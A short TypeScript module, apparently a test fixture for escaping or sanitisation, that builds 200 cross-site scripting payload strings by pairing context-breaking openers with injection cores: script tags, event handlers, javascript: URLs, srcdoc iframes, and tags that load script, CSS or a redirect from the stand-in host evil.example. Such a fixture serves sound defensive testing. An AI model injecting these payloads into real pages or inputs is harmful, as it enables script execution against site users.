const openers = ['', '">', "'>", '-->', '</title>', '</style>', '</script>', '</textarea>', ']]>', '{{x}}'];
const cores = [
  '<script>window.ran=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=window.ran=1>',
  '<svg onload=window.ran=1>',
  '<svg><script>window.ran=1</script></svg>',
  '<iframe srcdoc="<script>top.ran=1</script>"></iframe>',
  '<iframe src=javascript:top.ran=1></iframe>',
  '<body onload=window.ran=1>',
  '<details open ontoggle=window.ran=1>x</details>',
  '<input autofocus onfocus=window.ran=1>',
  '<a href="javascript:window.ran=1">x</a>',
  '<math><mi xlink:href="javascript:window.ran=1">x</mi></math>',
  '<object data="javascript:window.ran=1"></object>',
  '<form action=javascript:window.ran=1><button>x</button></form>',
  "<style>@import'//evil.example/x.css'</style>",
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<base href=//evil.example/>',
  '<b>{count, plural, one {#} other {<i>#</i>}}</b>',
  '${window.ran=1} &lt;b&gt; &#60;i&#62; %3Cscript%3E',
];

/** Two hundred texts that would run, load or draw something if they were ever taken for markup or a message. Each is one line. */
export const payloads: readonly string[] = openers.flatMap((opener) => cores.map((core) => `${opener}${core}`));
